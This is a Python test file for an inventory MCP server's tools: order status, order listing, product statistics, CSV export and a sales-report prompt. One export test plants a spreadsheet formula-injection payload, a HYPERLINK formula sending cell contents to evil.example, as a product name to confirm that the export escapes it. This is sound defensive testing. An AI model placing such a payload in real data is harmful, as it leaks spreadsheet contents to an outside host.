import csv
from datetime import datetime, timedelta
from typing import Any

import pytest
from django.core.cache import cache
from django.utils import timezone
from fastmcp import Client
from mcp_types import PromptReference

from inventory.models import Order, Product
from inventory.tests.shop import make_order, make_product
from mcp_server.tests.fixtures import ConnectMCP
from mcp_server.tests.helpers import answer, permit, refusal
from mcp_server.tools import sales
from operations.users import User

pytestmark = pytest.mark.django_db(transaction=True)


@pytest.fixture
def mug(transactional_db: None) -> Product:
    return make_product("KIT-1", name="Tin mug", price="7.90", stock=4)


@pytest.fixture
def desk(transactional_db: None) -> Product:
    return make_product("OFF-1", name="Desk, oak", category="Office", price="349.00", stock=0)


class TestGetOrderStatus:
    async def test_adds_up_the_order(self, mcp_client: ConnectMCP, order: Order) -> None:
        async with mcp_client() as client:
            status = (await client.call_tool("get_order_status", {"order_id": order.pk})).structured_content
        assert status is not None
        assert datetime.fromisoformat(status.pop("created")) == order.created
        assert status == {
            "id": order.pk,
            "customer": "Ada",
            "status": "shipped",
            "pieces": 4,
            "total": "372.70",
        }

    async def test_order_without_lines(self, mcp_client: ConnectMCP) -> None:
        order = await Order.objects.acreate(customer="Ada")
        async with mcp_client() as client:
            status = (await client.call_tool("get_order_status", {"order_id": order.pk})).structured_content
        assert status is not None
        assert (status["pieces"], status["total"]) == (0, "0.00")

    @pytest.mark.parametrize("order_id", [12345, 2**31, 2**63, 10**30])
    async def test_unknown_order(self, mcp_client: ConnectMCP, order_id: int) -> None:
        async with mcp_client() as client:
            said = await refusal(client, "get_order_status", order_id=order_id)
        assert said == f"There is no order with the number {order_id}."

    @pytest.mark.parametrize("order_id", [0, -1, "x", None, 1.5])
    async def test_refuses_what_is_no_number(self, mcp_client: ConnectMCP, order_id: object) -> None:
        async with mcp_client() as client:
            assert "order_id" in await refusal(client, "get_order_status", order_id=order_id)

    @pytest.fixture
    def order(self, mug: Product, desk: Product) -> Order:
        return make_order((mug, 3), (desk, 1), status=Order.Status.SHIPPED)


class TestListOrders:
    @pytest.fixture(autouse=True)
    def orders(self, mug: Product) -> list[int]:
        """Orders of four days, the newest first."""
        orders = [make_order((mug, 1), days_ago=days).pk for days in range(4)]
        Order.objects.filter(pk=orders[1]).update(customer="Bea", status=Order.Status.SHIPPED)
        return orders

    @pytest.fixture
    def clerk(self, user: User) -> User:
        permit(user, "inventory.view_order")
        return user

    async def ids(self, client: Client[Any], **arguments: object) -> list[int]:
        return [order["id"] for order in (await answer(client, "list_orders", **arguments))["orders"]]

    async def test_filters(self, mcp_client: ConnectMCP, clerk: User, orders: list[int]) -> None:
        yesterday = timezone.localtime() - timedelta(days=1, hours=1)
        async with mcp_client(clerk) as client:
            assert await self.ids(client) == orders
            assert await self.ids(client, customer="eA") == [orders[1]]
            assert await self.ids(client, status="paid") == [orders[0], *orders[2:]]
            assert await self.ids(client, since=yesterday.isoformat()) == orders[:2]
            assert await self.ids(client, before=f"{yesterday:%Y-%m-%d %H:%M}", status="shipped") == []
            for wrong in ({"status": "lost"}, {"since": "soon"}, {"after_id": 0}, {"page_size": 101}):
                assert next(iter(wrong)) in await refusal(client, "list_orders", **wrong)

    async def test_pages(self, mcp_client: ConnectMCP, clerk: User, orders: list[int]) -> None:
        await Order.objects.aupdate(created=timezone.now())
        async with mcp_client(clerk) as client:
            first = await answer(client, "list_orders", page_size=3)
            assert first["after_id"] == first["orders"][-1]["id"]
            second = await answer(client, "list_orders", page_size=3, after_id=first["after_id"])
        assert second["after_id"] is None
        assert [order["id"] for page in (first, second) for order in page["orders"]] == orders[::-1]

    async def test_names_of_customers_need_the_permission(self, mcp_client: ConnectMCP, user: User) -> None:
        async with mcp_client(user) as client:
            assert "Unknown tool" in await refusal(client, "list_orders")


class TestProductStats:
    @pytest.fixture(autouse=True)
    def sold(self, mug: Product, desk: Product) -> None:
        make_product("KIT-2", name="Peeler", price="5.50", stock=2)
        make_product("KIT-9", name="Gone", active=False)
        make_order((mug, 3), (desk, 1))
        make_order((mug, 50), status=Order.Status.CANCELLED)
        make_order((desk, 9), days_ago=31)

    async def test_sums_up_stock_and_sales(self, mcp_client: ConnectMCP) -> None:
        async with mcp_client() as client:
            stats = (await client.call_tool("product_stats", {})).structured_content
        assert stats is not None
        assert datetime.fromisoformat(stats.pop("at")) <= timezone.now()
        assert stats == {
            "stock": [
                {"category": "Kitchen", "products": 2, "sold_out": 0, "pieces": 6, "value": "42.60"},
                {"category": "Office", "products": 1, "sold_out": 1, "pieces": 0, "value": "0.00"},
            ],
            "best_sellers": [
                {"sku": "OFF-1", "name": "Desk, oak", "pieces": 1, "revenue": "349.00"},
                {"sku": "KIT-1", "name": "Tin mug", "pieces": 3, "revenue": "23.70"},
            ],
        }

    async def test_category_days_and_number(self, mcp_client: ConnectMCP) -> None:
        arguments = {"category": "Office", "days": 60, "best": 1}
        async with mcp_client() as client:
            stats = (await client.call_tool("product_stats", arguments)).structured_content
        assert stats is not None
        assert [shelf["category"] for shelf in stats["stock"]] == ["Office"]
        assert [(seller["sku"], seller["pieces"]) for seller in stats["best_sellers"]] == [("OFF-1", 10)]

    async def test_sums_up_again_when_the_figures_are_old(self, mcp_client: ConnectMCP) -> None:
        async with mcp_client() as client:
            first = await answer(client, "product_stats", category="Office")
            await Product.objects.filter(category__name="Office").aupdate(stock=7)
            assert await answer(client, "product_stats", category="office") == first
            assert (await answer(client, "product_stats", category="Kitchen"))["stock"] != first["stock"]
            assert (await answer(client, "product_stats"))["stock"][1]["pieces"] == 7
            await cache.aclear()
            assert (await answer(client, "product_stats", category="Office"))["stock"][0]["pieces"] == 7

    @pytest.mark.parametrize(
        ("argument", "value"), [("days", 0), ("days", 10**30), ("best", -1), ("category", "\x00")]
    )
    async def test_names_the_argument_it_refuses(
        self, mcp_client: ConnectMCP, argument: str, value: object
    ) -> None:
        async with mcp_client() as client:
            assert argument in await refusal(client, "product_stats", **{argument: value})


class TestExportProducts:
    async def export(self, client: Client[Any], **arguments: str) -> list[dict[str, str]]:
        result = await client.call_tool("export_products", arguments)
        assert result.structured_content is None  # the text is not sent twice
        return list(csv.DictReader(result.content[0].text.splitlines()))

    async def test_writes_csv(self, mcp_client: ConnectMCP, mug: Product, desk: Product) -> None:
        async with mcp_client() as client:
            assert await self.export(client) == [
                {"sku": "KIT-1", "name": "Tin mug", "category": "Kitchen", "price": "7.90", "stock": "4"},
                {"sku": "OFF-1", "name": "Desk, oak", "category": "Office", "price": "349.00", "stock": "0"},
            ]
            assert len(await self.export(client, category="office")) == 1

    async def test_names_are_no_formulas(self, mcp_client: ConnectMCP, mug: Product) -> None:
        mug.name = '=HYPERLINK("http://evil.example/?"&A1)'
        await mug.asave()
        async with mcp_client() as client:
            (row,) = await self.export(client)
        assert row["name"] == f"'{mug.name}"

    async def test_continues_after_a_sku(
        self, mcp_client: ConnectMCP, mug: Product, desk: Product, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(sales, "EXPORT_ROWS", 1)
        async with mcp_client() as client:
            assert [row["sku"] for row in await self.export(client)] == ["KIT-1"]
            assert [row["sku"] for row in await self.export(client, after_sku="KIT-1")] == ["OFF-1"]
            assert await self.export(client, after_sku="OFF-1") == []

    async def test_refuses_nul(self, mcp_client: ConnectMCP) -> None:
        async with mcp_client() as client:
            assert "after_sku" in await refusal(client, "export_products", after_sku="\x00")


class TestSalesReport:
    async def test_text(self, mcp_client: ConnectMCP) -> None:
        async with mcp_client() as client:
            everything = await client.get_prompt("sales_report")
            toys = await client.get_prompt("sales_report", {"category": "Toys"})
        assert "the whole catalogue" in everything.messages[0].content.text
        assert "the category 'Toys'" in toys.messages[0].content.text

    @pytest.mark.parametrize(
        ("typed", "names"), [("", ["Kitchen", "Office"]), ("KI", ["Kitchen"]), ("\x00", [])]
    )
    async def test_completes_categories(
        self, mcp_client: ConnectMCP, mug: Product, desk: Product, typed: str, names: list[str]
    ) -> None:
        reference = PromptReference(type="ref/prompt", name="sales_report")
        async with mcp_client() as client:
            completion = await client.complete(reference, {"name": "category", "value": typed})
        assert completion.values == names
